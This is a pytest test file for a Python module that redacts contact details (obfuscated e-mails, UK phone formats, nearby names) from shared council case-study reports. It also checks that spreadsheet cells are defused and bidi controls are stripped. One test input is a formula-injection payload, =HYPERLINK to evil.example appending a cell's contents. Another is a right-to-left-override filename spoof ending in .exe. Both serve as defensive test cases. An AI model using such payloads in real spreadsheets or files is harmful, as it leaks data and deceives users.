"""One definition of contact details for ingest and the shared reports.

Every form of e-mail address and phone number either side has ever known is both extracted
(ingest moves it to the restricted contacts table) and redacted (a shared page, table or
spreadsheet never shows it). All names, addresses and numbers are fictional (Ofcom's drama
ranges 01632 960xxx, 0131 496 0xxx, 07700 900xxx).
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from soa_analysis.contact_details import (
    EMAIL_MARK,
    NAME_MARK,
    PHONE_MARK,
    contacts_in_text,
    find_details,
    find_emails,
    find_phones,
    redact_contact_details,
    redaction_spans,
)
from soa_analysis.ingest.document import Block, Document
from soa_analysis.ingest.structure import build_record
from soa_analysis.report.safe import esc
from soa_analysis.sharing import shareable, spreadsheet_cell, strip_bidi_controls

# (as written, the address it spells)
EMAILS = [
    ("jo.bloggs@fife.gov.uk", "jo.bloggs@fife.gov.uk"),
    ("J.O'Neil+soa@example.org", "J.O'Neil+soa@example.org"),
    ("jo [at] fife [dot] gov [dot] uk", "jo@fife.gov.uk"),
    ("jo (at) example (dot) org", "jo@example.org"),
    ("jo(at)example.org", "jo@example.org"),
    ("jo {at} example {dot} org", "jo@example.org"),
    ("jamie.evid [at] fife dot gov dot uk", "jamie.evid@fife.gov.uk"),
    ("jo at example dot org", "jo@example.org"),
    ("jo.bloggs at fife.gov.uk", "jo.bloggs@fife.gov.uk"),
    ("riley.next\uff20falkirk.gov.uk", "riley.next@falkirk.gov.uk"),  # full-width at sign
    ("sam\ufe6bexample.org", "sam@example.org"),  # small at sign
    ("\uff4a\uff4f\uff20\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45\uff0e\uff4f\uff52\uff47", "jo@example.org"),
    ("jo @ example.org", "jo@example.org"),
]
# (as written, the digits of the national number that must not survive)
PHONES = [
    ("0131 496 0000", "1314960000"),
    ("0131-496-0000", "1314960000"),
    ("0131.496.0000", "1314960000"),
    ("0131 4960000", "1314960000"),
    ("01314960000", "1314960000"),
    ("(0131) 496 0000", "1314960000"),
    ("(0141) 496-0000", "1414960000"),
    ("(01224) 522000", "1224522000"),
    ("01632/960113", "1632960113"),
    ("01632 960113", "1632960113"),
    ("01592 583 123", "1592583123"),
    ("020 7946 0000", "2079460000"),
    ("07700 900123", "7700900123"),
    ("0800 123 4567", "8001234567"),
    ("0800 123 456", "800123456"),
    ("+44 (0)131 496 0000", "1314960000"),
    ("+44 131 496 0000", "1314960000"),
    ("+44(0)1382 000000", "1382000000"),
    ("+441314960000", "1314960000"),
    ("0044 131 496 0000", "1314960000"),
    ("0044 1632 960112", "1632960112"),
    ("00 44 131 496 0000", "1314960000"),
    ("0131\u00a0496\u00a00000", "1314960000"),  # non-breaking spaces
    ("0131\u2013496\u20130000", "1314960000"),  # en dashes
    ("\uff10\uff11\uff13\uff11 \uff14\uff19\uff16 \uff10\uff10\uff10\uff10", None),  # full-width digits
    ("+353 1 496 0000", "14960000"),
]
NOT_CONTACTS = [
    "between 2012 and 2013",
    "spent \u00a31,234,567 on 15000 places",
    "down 0.5% since 01/02/2013",
    "ref 2010 12345 678",
    "Reference 2011/12 and 12.5%",
    "we met at the hall at 10 am",
    "available at www.fife.gov.uk today",
    "see fife.gov.uk/jobs for vacancies",
    "scores of 0 10 20 30 40 50 60 70 80 90 100",
    "National Outcome 6 - We live longer, healthier lives",
    "Call Jo on the helpline.",
]


def _digits(s: str) -> str:
    return "".join(re.findall(r"\d", s))


@pytest.mark.parametrize("written,address", EMAILS)
def test_every_email_form_is_extracted_and_redacted(written, address):
    text = f"Write to {written} today."
    assert find_emails(text) == [address]
    assert redact_contact_details(text) == f"Write to {EMAIL_MARK} today."
    assert esc(text) == f"Write to {EMAIL_MARK} today."


@pytest.mark.parametrize("written,digits", PHONES)
def test_every_phone_form_is_extracted_and_redacted(written, digits):
    text = f"Ring {written} today."
    assert find_phones(text) == [written]
    assert redact_contact_details(text) == f"Ring {PHONE_MARK} today."
    if digits:
        assert digits not in _digits(esc(text))


@pytest.mark.parametrize("text", NOT_CONTACTS)
def test_figures_dates_web_addresses_and_prose_are_left_alone(text):
    assert find_details(text) == []
    assert redact_contact_details(text) == text


@pytest.mark.parametrize("text,expected", [
    ("contact Jamie Evidenceperson, Project Officer, on 01632 960113",
     f"contact {NAME_MARK}, Project Officer, on {PHONE_MARK}"),
    ("NHS Highland Taylor Tablecell taylor.t@nhs.example", f"NHS Highland {NAME_MARK} {EMAIL_MARK}"),
    ("NHS Highland Taylor Tablecell [email removed]", f"NHS Highland {NAME_MARK} {EMAIL_MARK}"),
    ("Contact Dr Morag Example on 0131 496 0000.", f"Contact {NAME_MARK} on {PHONE_MARK}."),
    ("e-mail jo@example.org (Jo O'Example) for a copy", f"e-mail {EMAIL_MARK} ({NAME_MARK}) for a copy"),
    ("Regards\nDrew Imaginary\nRegeneration Officer\nThe Moray Council\nTel 01343 563 999",
     f"Regards\n{NAME_MARK}\nRegeneration Officer\nThe Moray Council\nTel {PHONE_MARK}"),
    ("Note for readers: please contact Jamie Example on 0131 496 0000.",
     f"Note for readers: please contact {NAME_MARK} on {PHONE_MARK}."),
    ("The lead officer is Riley Example, riley@example.org.", f"The lead officer is {NAME_MARK}, {EMAIL_MARK}."),
    # a name at the end of a sentence about something else is not a contact's
    ("The project worked with Families First, contact on 0131 496 0000",
     f"The project worked with Families First, contact on {PHONE_MARK}"),
    ("Fife Council on 0131 496 0000", f"Fife Council on {PHONE_MARK}"),
])
def test_names_beside_a_contact_detail_are_removed(text, expected):
    assert redact_contact_details(text) == expected


def test_redaction_spans_keep_a_name_with_its_detail():
    text = "contact Jamie Example, Project Officer, on 01632 960113 for more"
    [(a, b)] = redaction_spans(text)
    assert text[a:b] == "Jamie Example, Project Officer, on 01632 960113"


def test_contacts_in_text_groups_details_into_people():
    text, found = contacts_in_text("Ruth Example, ruth.example@glasgow.gov.uk, 0141 496 0000, "
                                   "Tom Sample, NHS Lanarkshire, tom.sample@nhs.example")
    assert text == f"{NAME_MARK}, {EMAIL_MARK}, {PHONE_MARK}, {NAME_MARK}, NHS Lanarkshire, {EMAIL_MARK}"
    assert [(c["name"], c["email"], c["phone"]) for c in found] == [
        ("Ruth Example", "ruth.example@glasgow.gov.uk", "0141 496 0000"), ("Tom Sample", "tom.sample@nhs.example", "")]


@pytest.mark.parametrize("written", [w for w, _ in EMAILS] + [w for w, _ in PHONES])
def test_ingest_moves_every_form_to_the_restricted_table(written):
    doc = Document([Block("heading", "What was the local need addressed by this SOA case study?"),
                    Block("para", f"FICTIONAL need. For details contact Jamie Example on {written} any day.")],
                   {"format": "docx"})
    rec = build_record(doc, source_file="x.docx")
    assert written not in rec.text and written not in rec.sections["need"]
    assert "Jamie Example" not in rec.text
    [c] = [c for c in rec.contacts if c["found_in"] == "narrative"]
    assert c["name"] == "Jamie Example" and (c["email"] or c["phone"])


@pytest.mark.parametrize("value,expected", [
    ("=HYPERLINK(\"http://evil.example/x?\"&A1, \"click\")", "'=HYPERLINK(\"http://evil.example/x?\"&A1, \"click\")"),
    ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
    ("-2+3", "'-2+3"),
    ("@cmd", "'@cmd"),
    ("\t=1", "'\t=1"),
    ("plain text", "plain text"),
    ("=mail jo@example.org", f"'=mail {EMAIL_MARK}"),
    (3, 3),
    (None, None),
])
def test_spreadsheet_cells_are_defused_and_redacted(value, expected):
    assert spreadsheet_cell(value) == expected


@pytest.mark.parametrize("control", [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))])
def test_bidi_controls_are_stripped_from_shared_text(control):
    text = f"report{control}fdp.exe"
    assert strip_bidi_controls(text) == "reportfdp.exe"
    assert shareable(text) == "reportfdp.exe"
    assert control not in esc(text)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("aAtTxX _-\n5éÄ@.")), max_size=30))
def test_the_word_at_found_as_the_case_insensitive_regex_finds_it(text):
    from soa_analysis.contact_details import _AT_WORD

    assert [m.span() for m in _AT_WORD.finditer(text)] == [m.span() for m in re.finditer(r"(?i)\bat\b", text)]
